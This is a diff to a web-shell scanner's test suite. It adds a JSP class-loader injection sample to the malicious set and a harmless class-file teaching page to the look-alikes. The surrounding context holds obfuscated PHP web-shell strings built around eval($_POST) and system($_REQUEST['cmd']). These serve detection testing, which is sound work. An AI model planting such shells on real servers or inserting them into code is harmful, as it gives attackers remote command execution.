@@ -85,6 +85,11 @@ const MALICIOUS: [string, string, string][] = [
     '/var/www/html/c12.php',
     `<?php\npreg_replace(chr(0x2_f).chr(-0x9f).chr(98.0).chr(0xc6 >> 1).chr("47").mb_chr(0x65), ${chrs('@eval($_POST[k]);', 10)}, 'abc');\n`,
   ],
+  [
+    'a JSP carrying a compiled class as a byte array and defining it through a class loader of its own (set H25)',
+    '/var/lib/tomcat/webapps/ROOT/inject.jsp',
+    `<%!class L extends ClassLoader { Class<?> d(byte[] b) { return super.defineClass(null, b, 0, b.length); } }%>\n<%\n  byte[] c = {\n${[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34, 0, 0x1d, 0x0a, 0, 6].map((b) => `(byte) 0x${b.toString(16).padStart(2, '0')}`).join(',  ')}\n  };\n  Object o = new L().d(c).newInstance();\n  out.write("ok");\n%>\n`,
+  ],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -134,6 +139,11 @@ const LOOKALIKES: [string, string, string][] = [
     '/var/www/html/lib/signatures.php',
     `<?php\nreturn array(\n  array('S-1', '${b64("eval($_POST['x']);")}', 'high'),\n  array('S-2', '${b64("system($_REQUEST['cmd']);")}', 'high'),\n);\n`,
   ],
+  [
+    'a JSP teaching page printing the first bytes of a class file, defining nothing',
+    '/var/lib/tomcat/webapps/ROOT/classfile.jsp',
+    `<%\n  byte[] magic = { (byte) 0xca, (byte) 0xfe, (byte) 0xba, (byte) 0xbe, 0, 0, 0, 0x34 };\n  for (byte b : magic) out.print(String.format("%02x ", b));\n%>\n<p>Every class file starts with these bytes; ClassLoader.defineClass reads them.</p>\n`,
+  ],
 ];
 
 describe('scan: held-out set H23\'s techniques (session 39)', () => {
@@ -143,14 +153,14 @@ describe('scan: held-out set H23\'s techniques (session 39)', () => {
       assert.equal(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 15));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 16));
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
       const r = scan(src, path);
       assert.notEqual(r.verdict, 'malicious', why(r));
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 9));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 10));
   it('reads chr() of hexadecimal, binary and octal numbers as PHP does (0165 is octal)', () => {
     assert.equal(normalizeStrings("x(chr(0x73).chr(0b1111001).chr(0163).chr(0o164).chr(101).chr(0x6c + 1))"), "x('system')");
   });
